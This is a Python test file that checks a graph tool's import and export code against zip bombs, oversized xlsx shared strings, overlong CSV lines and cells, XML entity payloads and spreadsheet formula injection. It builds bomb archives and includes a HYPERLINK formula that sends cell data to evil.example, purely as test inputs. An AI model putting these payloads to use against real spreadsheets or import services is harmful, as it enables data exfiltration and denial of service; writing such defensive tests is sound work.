"""Attacks on imports and exports (issue 13): zip bombs, shared-string bombs, endless lines,
XML entities, formula injection. Each test is the attack, the limit and the answer."""

from __future__ import annotations

import csv
import io
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from pactmap.graph.errors import ImportFileError
from pactmap.graph.interchange import limits
from pactmap.graph.interchange.formats import export_file, import_file, write_template
from pactmap.graph.model import NodeKind
from pactmap.graph.store import Store

BY = "test"
MB = 1024 * 1024
HEADER = b"id,name,sector\n"


def _bomb_zip(path: Path, name: str, size: int) -> None:
    """A zip whose ``name`` unpacks to ``size`` bytes of one repeated CSV row."""
    row = b"act-x,Same actor again,association\n"
    chunk = HEADER + row * (MB // len(row))
    with (
        zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as z,
        z.open(name, "w") as entry,
    ):
        written = 0
        while written < size:
            entry.write(chunk if written == 0 else chunk[len(HEADER) :])
            written += len(chunk)


def _refusal(path: Path, store: Store, fmt: str) -> tuple[str, int]:
    """The import's refusal message and the Python memory it allocated at its peak."""
    tracemalloc.start()
    try:
        with pytest.raises(ImportFileError) as caught:
            import_file(store, path, fmt=fmt, by=BY)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    return str(caught.value), peak


def test_a_190_kb_zip_holding_200_mb_of_actors_is_refused_before_it_is_read(
    sqlite_store: Store, tmp_path: Path
) -> None:
    path = tmp_path / "bomb.zip"
    _bomb_zip(path, "actors.csv", 200 * MB)  # issue 13: a 190 KB zip; this one is ~600 KB
    assert path.stat().st_size < 1 * MB
    message, peak = _refusal(path, sqlite_store, "csv")
    assert "actors.csv" in message and f"at most {limits.MAX_RATIO} to 1" in message
    assert peak < 5 * MB  # the issue measured 333-376 MB before this check
    assert sqlite_store.list_nodes(NodeKind.TERRITORY, None, first=10).items == []


def test_an_xlsx_with_200_mb_of_shared_strings_is_refused_before_openpyxl_reads_it(
    sqlite_store: Store, tmp_path: Path
) -> None:
    template = tmp_path / "template.xlsx"
    write_template(template)
    bomb = tmp_path / "bomb.xlsx"
    strings = b"<si><t>aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa</t></si>" * 16384
    with (
        zipfile.ZipFile(template) as source,
        zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as out,
    ):
        for info in source.infolist():
            if info.filename != "xl/sharedStrings.xml":
                out.writestr(info, source.read(info))
        with out.open("xl/sharedStrings.xml", "w") as entry:
            entry.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
            for _ in range(200 * MB // len(strings)):
                entry.write(strings)
            entry.write(b"</sst>")
    assert bomb.stat().st_size < 2 * MB  # issue 13: 748 KB holding 197 MB of shared strings
    message, peak = _refusal(bomb, sqlite_store, "xlsx")
    assert "xl/sharedStrings.xml is compressed" in message
    assert peak < 5 * MB


def test_an_archive_of_too_many_entries_is_refused(sqlite_store: Store, tmp_path: Path) -> None:
    path = tmp_path / "many.zip"
    with zipfile.ZipFile(path, "w") as z:
        for n in range(limits.MAX_ENTRIES + 1):
            z.writestr(f"sheet{n}.csv", HEADER)
    message, _ = _refusal(path, sqlite_store, "csv")
    assert f"holds {limits.MAX_ENTRIES + 1} entries; at most {limits.MAX_ENTRIES}" in message


def test_an_entry_larger_than_the_entry_cap_is_refused(
    sqlite_store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(limits, "MAX_ENTRY_BYTES", 4096)
    path = tmp_path / "big.zip"
    with zipfile.ZipFile(path, "w") as z:  # stored, ratio 1: only the size cap applies
        z.writestr("actors.csv", HEADER + b"act-1,A,association\n" * 400)
    message, _ = _refusal(path, sqlite_store, "csv")
    assert "actors.csv unpacks to 8015 bytes; at most 4096" in message


def test_a_stream_stops_at_its_cap_whatever_the_archive_declared() -> None:
    reader = io.BufferedReader(limits.CappedReader(io.BytesIO(b"x" * 100), 10, "actors.csv"))
    with pytest.raises(ImportFileError, match=r"actors\.csv unpacks to more than 10 bytes"):
        reader.read()


def test_a_csv_line_longer_than_the_line_cap_is_refused(
    sqlite_store: Store, tmp_path: Path
) -> None:
    path = tmp_path / "actors.csv"
    path.write_bytes(HEADER + b"act-1,A,association" + b" " * limits.MAX_LINE_CHARS + b"\n")
    message, _ = _refusal(path, sqlite_store, "csv")
    assert f"actors.csv: line 2 is longer than {limits.MAX_LINE_CHARS} characters" in message


def test_a_csv_cell_longer_than_the_cell_cap_is_refused(
    sqlite_store: Store, tmp_path: Path
) -> None:
    path = tmp_path / "actors.csv"
    cell = '"' + "a" * (limits.MAX_CELL_CHARS + 1) + '"'
    path.write_text(f"id,name,sector\nact-1,{cell},association\n", encoding="utf-8")
    message, _ = _refusal(path, sqlite_store, "csv")
    assert f"field larger than field limit ({limits.MAX_CELL_CHARS})" in message


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_xml_with_an_entity_is_refused_by_defusedxml(
    fmt: str, sqlite_store: Store, tmp_path: Path
) -> None:
    path = tmp_path / f"lol.{fmt}"
    path.write_text(
        '<?xml version="1.0"?>\n<!DOCTYPE g [<!ENTITY lol "lol">]>\n'
        '<graphml xmlns="http://graphml.graphdrawing.org/xmlns"><graph edgedefault="directed">'
        '<node id="n">&lol;</node></graph></graphml>',
        encoding="utf-8",
    )
    message, _ = _refusal(path, sqlite_store, fmt)
    assert f"{fmt.upper()} with a DTD or entities is refused" in message
    assert str(tmp_path) not in message  # the server's paths stay on the server


NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',  # issue 13's attack
    "-5 °C club",  # legitimate text that begins with a formula character
    "+33 collective",
    "@home",
    "'=already quoted",
    "Plain name",
]


def _named_actors(store: Store) -> str:
    tid = store.create(NodeKind.TERRITORY, {"name": "Formulae"}, by=BY).id
    for name in NAMES:
        store.create(
            NodeKind.ACTOR, {"name": name, "sector": "association"}, by=BY, territory_id=tid
        )
    return tid


def _names(store: Store, tid: str) -> list[str]:
    return sorted(n.label for n in store.snapshot(tid).by_kind(NodeKind.ACTOR))


def test_csv_export_neutralises_formulas_and_import_restores_the_text(
    sqlite_store: Store, tmp_path: Path
) -> None:
    tid = _named_actors(sqlite_store)
    path = tmp_path / "map.zip"
    export_file(sqlite_store, tid, "csv", path)
    with zipfile.ZipFile(path) as z:
        rows = list(csv.reader(io.StringIO(z.read("actors.csv").decode("utf-8"))))
    header = rows[0]
    cells = sorted(row[header.index("name")] for row in rows[1:])
    # OWASP: a cell a spreadsheet would run starts with a single quote
    assert cells == sorted(
        [
            '\'=HYPERLINK("http://evil.example/?"&A1,"x")',
            "'-5 °C club",
            "'+33 collective",
            "'@home",
            "''=already quoted",
            "Plain name",
        ]
    )
    back = import_file(sqlite_store, path, fmt="csv", by=BY)
    assert _names(sqlite_store, back.territory_id) == sorted(NAMES)


def test_xlsx_export_writes_text_cells_never_formulas(sqlite_store: Store, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    tid = _named_actors(sqlite_store)
    path = tmp_path / "map.xlsx"
    export_file(sqlite_store, tid, "xlsx", path)
    sheet = load_workbook(path)["actors"]  # not data_only: a formula would show as "f"
    header = [c.value for c in sheet[1]]
    column = header.index("name") + 1
    cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
    assert {c.data_type for c in cells} == {"s"}
    assert sorted(str(c.value) for c in cells) == sorted(NAMES)
    back = import_file(sqlite_store, path, fmt="xlsx", by=BY)
    assert _names(sqlite_store, back.territory_id) == sorted(NAMES)
